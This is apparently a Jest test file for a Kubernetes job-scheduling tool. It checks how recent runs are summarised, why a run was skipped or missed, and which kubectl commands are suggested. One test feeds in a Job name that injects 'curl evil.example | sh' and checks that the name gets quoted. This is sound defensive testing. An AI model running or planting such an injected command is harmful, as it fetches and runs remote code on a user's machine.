import { describe, expect, test } from '@jest/globals';
import type { FleetRun } from '@kron/fleet/fleet/fleet';
import { lastResults, whyNotRun } from './lastResults.ts';
import { fleetRun, objectRow } from '../testing/columns.ts';
import { objectCommands } from './objectCommands.ts';

function run(hour: number, changes: Partial<FleetRun> = {}): FleetRun {
  const at = `2026-11-22T${String(hour).padStart(2, '0')}:00:00Z`;
  return fleetRun({ periodID: at, chosenTime: at, ...changes });
}

describe('the last results', () => {
  test('are the newest ten, the newest first', () => {
    const results = lastResults(Array.from({ length: 14 }, (_, hour) => run(hour)));
    const hours = results.map(({ at }) => Number(at.slice(11, 13)));
    expect(hours).toEqual([13, 12, 11, 10, 9, 8, 7, 6, 5, 4]);
  });

  test.each([
    ['executed (Created), failed', { result: 'Failed' }],
    ['executed (Created), running', { result: 'Active' }],
    ['executed (Created), suspended, waits in queue nightly', { result: 'Suspended', queue: 'nightly' }],
    ['skipped (JobActive)', { outcome: 'skipped', reason: 'JobActive' }],
    ['missed', { outcome: 'missed', reason: '' }],
  ] as const)('say %s', (text, changes) => {
    expect(lastResults([run(1, changes)])[0]?.result).toBe(text);
  });

  test('have the lateness and the duration that are on record', () => {
    const [ended] = lastResults([
      run(1, {
        createdAt: '2026-11-22T01:00:02Z',
        startedAt: '2026-11-22T01:00:05Z',
        endedAt: '2026-11-22T01:07:15Z',
      }),
    ]);
    expect([ended?.lateness, ended?.duration]).toEqual(['+2s', '7m10s']);
    const [skipped] = lastResults([run(1, { outcome: 'skipped' })]);
    expect([skipped?.lateness, skipped?.duration]).toEqual(['–', '–']);
  });
});

describe('why the last one did not run', () => {
  test.each([
    ['nothing, if it ran', [run(1)], null],
    ['nothing, if nothing is on record', [], null],
    [
      'the reason',
      [run(1), run(2, { outcome: 'missed', reason: 'DeadlineExceeded' })],
      '2026-11-22T02:00:00Z was missed (DeadlineExceeded): the operator noticed it later than policy.deadline allows',
    ],
    [
      'a reason without words',
      [run(2, { outcome: 'missed', reason: 'constructor' })],
      '2026-11-22T02:00:00Z was missed (constructor)',
    ],
    [
      'the words of the Event',
      [run(2, { outcome: 'skipped', reason: 'JobActive', message: 'job a-1 is active' })],
      '2026-11-22T02:00:00Z was skipped (JobActive): job a-1 is active',
    ],
  ])('is %s', (_, runs, expected) => {
    expect(whyNotRun(lastResults(runs))).toBe(expected);
  });
});

describe('the commands', () => {
  const cluster = { kind: 'cluster' as const, names: [] };

  test('of a cluster show logs, explain, trigger and suspend', () => {
    const last = run(1, { jobName: 'a-1' });
    const commands = objectCommands(objectRow('prod/a'), cluster, last);
    expect(commands.map(({ command }) => command)).toEqual([
      'kubectl logs job/a-1 -n prod',
      'kron explain a -n prod',
      'kron trigger a -n prod',
      `kubectl patch kronjob a -n prod --type merge -p '{"spec":{"policy":{"suspend":true}}}'`,
      'kubectl describe kronjob a -n prod',
    ]);
  });

  test.each(['KronJob', 'CronJob', 'ControlledJob'] as const)(
    'of a %s act on the cluster that is shown',
    (kind) => {
      const source = { ...cluster, context: "it's prod", kubeconfig: '/home/me/prod.yaml' };
      const last = run(1, { jobName: 'a-1' });
      const commands = objectCommands(objectRow('prod/a', { kind }), source, last);
      const flags = String.raw` -n prod --kubeconfig /home/me/prod.yaml --context 'it'\''s prod'`;
      expect(commands.filter(({ command }) => !command.includes(flags))).toEqual([]);
    },
  );

  test('quote the name of a Job, which a status can make up', () => {
    const last = run(1, { jobName: 'a; curl evil.example | sh' });
    expect(objectCommands(objectRow('prod/a'), cluster, last)[0]?.command).toBe(
      "kubectl logs 'job/a; curl evil.example | sh' -n prod",
    );
  });

  test('of a CronJob are those of kubectl', () => {
    const row = objectRow('prod/a', { kind: 'CronJob' });
    expect(objectCommands(row, cluster, undefined).map(({ command }) => command)).toEqual([
      'kron explain a -n prod',
      'kubectl create job --from=cronjob/a a-manual -n prod',
      `kubectl patch cronjob a -n prod --type merge -p '{"spec":{"suspend":true}}'`,
      'kubectl describe cronjob a -n prod',
    ]);
  });

  test('resume a suspended ControlledJob, which has no trigger', () => {
    const row = objectRow('prod/a', { kind: 'ControlledJob', suspended: true });
    expect(objectCommands(row, cluster, undefined).map(({ command }) => command)).toEqual([
      `kubectl patch controlledjob a -n prod --type merge -p '{"spec":{"suspend":false}}'`,
      'kubectl describe controlledjob a -n prod',
    ]);
  });

  test.each([
    ['only explain', {}, ['kron explain a -n prod -f a.yaml']],
    [
      'name the cluster of the seed',
      { clusterName: 'eu' },
      ['kron explain a -n prod --cluster eu -f a.yaml'],
    ],
    ['do not explain a window of --window', { kind: 'CronJob', windowAssumed: true }, []],
  ] as const)('of files %s', (_, changes, expected) => {
    const source = { kind: 'files' as const, names: ['a.yaml'] };
    const commands = objectCommands(objectRow('prod/a', changes), source, undefined);
    expect(commands.map(({ command }) => command)).toEqual(expected);
  });
});
